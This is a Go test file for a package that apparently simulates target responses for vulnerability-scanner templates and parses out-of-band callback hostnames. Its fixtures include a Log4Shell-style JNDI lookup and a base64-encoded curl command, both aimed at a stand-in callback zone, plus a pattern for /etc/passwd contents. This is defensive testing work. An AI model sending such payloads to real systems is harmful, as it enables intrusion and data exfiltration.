package answer

import (
	"regexp"
	"strings"
	"testing"
)

const head = "id: t\ninfo: {name: T, tags: 'a,b'}\n"

// TestMake holds what is made of small templates: the answer and the one thing that is changed in it.
func TestMake(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]struct{ body, fields, changed string }{
		"http:\n- path: ['{{BaseURL}}/a']\n  matchers-condition: and\n  matchers:\n  - {type: word, words: [one, two], condition: and}\n  - {type: word, part: header, words: [text/html]}\n":                             {"one\ntwo", "Content-Type: text/html", "one"},
		"http:\n- path: ['{{BaseURL}}/a']\n  matchers:\n  - {type: regex, regex: ['root:.*:0:0:']}\n":                                                                                                                     {"root::0:0:", "", "root::0:0:"},
		"http:\n- path: ['{{BaseURL}}/a']\n  matchers:\n  - {type: dsl, dsl: ['contains(tolower(body), \"x\") && status_code == 200 && !contains(body, \"y\")']}\n":                                                       {"x", "", "x"},
		"http:\n- path: ['{{BaseURL}}/a']\n  extractors:\n  - {type: regex, name: v, group: 1, internal: true, regex: ['Version: ([0-9.]+)']}\n  matchers:\n  - {type: dsl, dsl: ['compare_versions(v, \"< 1.2.3\")']}\n": {"Version: 1.2.2", "", ""},
		"http:\n- path: ['{{BaseURL}}/a']\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [dns]}\n  - {type: word, words: [alone]}\n":                                                                    {"alone", "", "alone"},
		"tcp:\n- inputs: [{data: '*1', read: 10}]\n  host: ['{{Hostname}}']\n  matchers:\n  - {type: binary, binary: ['2b4f4b']}\n":                                                                                       {"+OK", "", "+OK"},
	} {
		c, err := Make([]byte(head+text), nil)
		if err != nil {
			t.Errorf("%s: %v", text, err)
			continue
		}
		good, bad := c.Good[0].Answer, c.Bad[0].Answer
		if good.Body != want.body || strings.Join(good.Fields, "|") != want.fields || !strings.Contains(c.Changed, want.changed) || bad.Body == good.Body {
			t.Errorf("%s: good %+v, bad %+v, changed %s", text, good, bad, c.Changed)
		}
	}
	for _, text := range []string{
		"http:\n- path: ['{{BaseURL}}/a']\n  matchers:\n  - {type: dsl, dsl: ['md5(body) == \"x\"']}\n",
		"http: 1\n",
	} {
		if c, err := Make([]byte(head+text), nil); err == nil {
			t.Errorf("%s gave %+v", text, c)
		}
	}
}

func TestIcons(t *testing.T) {
	t.Parallel()
	for _, want := range []string{"116323821", "-1197190489", "0"} {
		icon, ok := iconFor(want)
		if got := textCalls["mmh3"](pythonBase64(icon)); !ok || got != want {
			t.Errorf("an icon for %s has hash %s", want, got)
		}
	}
}

func TestSamples(t *testing.T) {
	t.Parallel()
	for _, pattern := range []string{`root:.*:0:0:`, `(?i)password\s*=\s*[a-z]{3,8}\b`, `^SSH-[0-9.]+-\S+$`, `(a|b)+?c{2}`, `\b[a-f0-9]{32}\b`, `[^"]+"x`} {
		if s, ok := sample(pattern, 0, ""); !ok || !regexp.MustCompile(pattern).MatchString(s) {
			t.Errorf("%s: %q", pattern, s)
		}
	}
	if s, ok := sample(`Version: ([0-9.]+) \(`, 1, "7.8"); !ok || !strings.Contains(s, "Version: 7.8 (") {
		t.Errorf("group: %q", s)
	}
}

func FuzzMake(f *testing.F) {
	for _, s := range []string{
		"http:\n- path: ['{{BaseURL}}/{{randstr}}']\n  matchers:\n  - {type: dsl, dsl: ['contains(body, \"{{randstr}}\")']}\n",
		"variables: {a: '{{b}}', b: '{{a}}'}\nhttp:\n- raw: [\"GET /{{a}} HTTP/1.1\"]\n  matchers:\n  - {type: regex, regex: ['(x']}\n",
		"tcp:\n- matchers:\n  - {type: status}\n",
	} {
		f.Add([]byte(head + s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if c, err := Make(b, nil); err == nil && (len(c.Good) == 0 || len(c.Good) != len(c.Bad)) {
			t.Errorf("%d good and %d bad answers", len(c.Good), len(c.Bad))
		}
	})
}

// TestCall holds that a target which must use the name does, and that the changed one does not.
func TestCall(t *testing.T) {
	t.Parallel()
	for matchers, want := range map[string]string{
		"{type: word, part: interactsh_protocol, words: [dns]}":                                                                           "dns ",
		"{type: dsl, dsl: ['contains(interactsh_protocol, \"dns\") && contains(interactsh_request, \"srv\")']}":                           "dns srv",
		"{type: word, part: interactsh_protocol, words: [http]}\n  - {type: word, part: interactsh_request, words: ['User-Agent: curl']}": "http User-Agent: curl",
	} {
		c, err := Make([]byte(head+"http:\n- path: ['{{BaseURL}}/a?{{interactsh-url}}']\n  matchers-condition: and\n  matchers:\n  - "+matchers+"\n"), nil)
		if err != nil {
			t.Errorf("%s: %v", matchers, err)
			continue
		}
		good, bad := c.Good[0].Answer.Call, c.Bad[0].Answer.Call
		if got := good.Protocol + " " + strings.Join(good.Says, "|"); got != want || strings.Join(bad.Says, "|") == strings.Join(good.Says, "|") && bad.Protocol == good.Protocol {
			t.Errorf("%s: %+v and %+v", matchers, good, bad)
		}
	}
	at := &Collaborator{Zone: "oob.example.org"}
	for request, want := range map[string]string{
		"GET /?u=http://vdab.oob.example.org/x":                            "vdab.oob.example.org",
		"GET /?u=http%253A%252F%252Fvdab.oob.example.org":                  "vdab.oob.example.org",
		"X: ${jndi:ldap://${:-1}2.${hostName}.uri.vdab.oob.example.org/a}": "12.app.uri.vdab.oob.example.org",
		"x=" + "Y3VybCBodHRwOi8vdmRhYi5vb2IuZXhhbXBsZS5vcmc=":              "vdab.oob.example.org",
		"nothing.example.org":                                              "",
	} {
		got := at.names(request)
		if len(got) == 0 && want == "" {
			continue
		}
		if len(got) == 0 || got[len(got)-1] != want {
			t.Errorf("%s: %q", request, got)
		}
	}
}

func FuzzNames(f *testing.F) {
	f.Add("GET /?u=http%3A//vdab.oob.example.org ${:-1}${hostName}.x.oob.example.org Y3VybCBodHRwOi8vdmRhYi5vb2IuZXhhbXBsZS5vcmc=")
	at := &Collaborator{Zone: "oob.example.org"}
	f.Fuzz(func(t *testing.T, s string) {
		for _, n := range at.names(s) {
			if !strings.HasSuffix(strings.ToLower(n), ".oob.example.org") {
				t.Errorf("%q", n)
			}
		}
	})
}
